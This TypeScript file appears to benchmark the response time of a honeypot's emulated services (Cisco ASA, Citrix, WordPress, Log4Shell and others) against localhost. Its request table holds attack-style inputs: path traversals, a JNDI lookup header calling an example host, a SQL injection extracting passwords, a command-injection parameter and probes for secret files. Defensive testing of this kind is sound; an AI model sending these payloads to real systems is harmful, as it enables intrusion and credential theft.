import { Agent, type RequestOptions, request } from 'node:http'
import { Agent as TlsAgent, request as tlsRequest } from 'node:https'
import { Identity } from '../src/config/identity.ts'
import { lures } from '../src/emulators/index.ts'
import { createHosts } from '../src/host/hosts.ts'
import type { Lure } from '../src/sensor/lure.ts'
import { optionsOf } from '../test/fuzz/seeds.ts'
import { MemoryState, noEngine, play } from '../test/harness.ts'
import { percentile } from './bench.ts'
import type { BenchOptions } from './options.ts'

const ROUNDS = 200
const WARM_UP = 20
/** Of our own time an answer; what a product waits on purpose is not asked for. */
const TARGET_MS = 5

interface Asked {
  method?: string
  path: string
  headers?: Record<string, string>
  body?: string
}

const json = (path: string, body: unknown, headers: Record<string, string> = {}): Asked => ({
  method: 'POST',
  path,
  headers: { 'Content-Type': 'application/json', ...headers },
  body: JSON.stringify(body),
})
const form = (path: string, body: string): Asked => ({
  method: 'POST',
  path,
  headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
  body,
})
const missing: Asked = { path: '/a8f3c1' }

/** What visitors and attackers of each ask most. */
const ASKED: Readonly<Record<string, readonly Asked[]>> = {
  'cisco-asa': [
    { path: '/' },
    { path: '/+CSCOE+/logon.html?fcadbadd=1' },
    { path: '/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&lang=../' },
    json('/', '<config-auth client="vpn" type="init"></config-auth>'),
    missing,
  ],
  citrix: [{ path: '/vpn/index.html' }, { path: '/logon/LogonPoint/index.html' }, { path: '/vpn/../vpns/cfg/smb.conf' }, missing],
  'secrets-maze': [{ path: '/' }, { path: '/.env' }, { path: '/config.json' }, { path: '/backup.sql' }],
  traps: [{ path: '/' }, { path: '/login.action' }, { path: '/.git/config' }, missing],
  'rest-api': [{ path: '/api/things?sort=-price&limit=5' }, { path: '/api/things/3' }, { path: '/openapi.json' }, missing],
  log4shell: [{ path: '/', headers: { 'X-Api-Version': '${jndi:ldap://x.example/a}' } }, missing],
  'web-app': [
    { path: '/' },
    { path: '/index.php?id=4' },
    { path: '/index.php?id=-1%20UNION%20SELECT%201,username,password,4,5%20FROM%20users' },
    { path: '/?x=%3Bid' },
    missing,
  ],
  wordpress: [
    { path: '/' },
    { path: '/wp-login.php' },
    { path: '/wp-json/wp/v2/posts' },
    form('/wp-login.php', 'log=admin&pwd=x'),
    missing,
  ],
  elasticsearch: [
    { path: '/' },
    { path: '/_cat/indices?v' },
    { path: '/_all/_search?size=10' },
    json('/_search', { query: { match: { name: 'anna' } } }),
    { path: '/nothing' },
  ],
  mcp: [
    json(
      '/mcp',
      {
        jsonrpc: '2.0',
        id: 1,
        method: 'initialize',
        params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'x', version: '1' } },
      },
      { Accept: 'application/json, text/event-stream' },
    ),
    missing,
  ],
  'ollama-api': [{ path: '/' }, { path: '/api/tags' }, json('/api/show', { model: 'llama3.1:8b' }), { path: '/v1/models' }, missing],
  ipp: [{ path: '/' }, { path: '/printers/' }, { path: '/jobs/' }, missing],
}

interface Row {
  requests: number
  p50Ms: number
  p99Ms: number
  /** Processor time of one question and answer, its client's included: what neighbours on the machine do not change. */
  cpuMs: number
}

/** How long an answer takes, from the first byte of the request to the last of the answer, over one kept connection. */
export async function run({ lures: wanted }: BenchOptions): Promise<Record<string, unknown>> {
  const rows: Record<string, Row> = {}
  for (const [name, asked] of Object.entries(ASKED)) {
    if (wanted.length > 0 && !wanted.includes(name)) continue
    const { times, cpuMs } = await measured(lures.find((lure) => lure.name === name) as Lure, asked)
    rows[name] = {
      requests: times.length,
      p50Ms: rounded(percentile(times, 50)),
      p99Ms: rounded(percentile(times, 99)),
      cpuMs: rounded(cpuMs),
    }
  }
  console.table(rows)
  const slow = Object.entries(rows).filter(([, { cpuMs }]) => cpuMs > TARGET_MS)
  if (slow.length) throw new Error(`slower than ${TARGET_MS} ms: ${slow.map(([name]) => name).join(', ')}`)
  const worst = (which: keyof Row): number => Math.max(...Object.values(rows).map((row) => row[which]))
  return { lures: Object.keys(rows).length, worstP50Ms: worst('p50Ms'), worstP99Ms: worst('p99Ms'), worstCpuMs: worst('cpuMs') }
}

async function measured(lure: Lure, asked: readonly Asked[]): Promise<{ times: number[]; cpuMs: number }> {
  const identity = new Identity(Buffer.alloc(32, 7))
  const state = new MemoryState()
  const hosts = createHosts({ identity, engine: noEngine, state })
  const playing = await play(lure, { options: await optionsOf(lure.name), persona: lure.persona ?? 'debian-web', identity, state, hosts })
  playing.bus.subscribe(() => {
    playing.events.length = 0
  })
  const isTls = lure.ports[0]?.tls === true
  const agent = isTls
    ? new TlsAgent({ keepAlive: true, maxSockets: 1, rejectUnauthorized: false })
    : new Agent({ keepAlive: true, maxSockets: 1 })
  const target = { host: '127.0.0.1', port: playing.port(), agent }
  const times: number[] = []
  let before = process.cpuUsage()
  try {
    for (let round = 0; round < ROUNDS; round++) {
      if (round === WARM_UP) before = process.cpuUsage()
      for (const one of asked) {
        const startedAt = performance.now()
        await answered(isTls, target, one)
        if (round >= WARM_UP) times.push(performance.now() - startedAt)
      }
    }
    const { user, system } = process.cpuUsage(before)
    return { times, cpuMs: (user + system) / 1000 / times.length }
  } finally {
    agent.destroy()
    await playing.stop()
    hosts.close()
  }
}

function answered(isTls: boolean, target: RequestOptions, { method = 'GET', path, headers = {}, body = '' }: Asked): Promise<void> {
  return new Promise((resolve, reject) => {
    const length = body === '' ? {} : { 'Content-Length': Buffer.byteLength(body) }
    const ask = isTls ? tlsRequest : request
    const asking = ask({ ...target, method, path, headers: { ...headers, ...length } }, (response) => {
      response.resume()
      response.once('end', () => resolve())
    })
    asking.once('error', reject)
    asking.end(body)
  })
}

function rounded(ms: number): number {
  return Number(ms.toFixed(2))
}
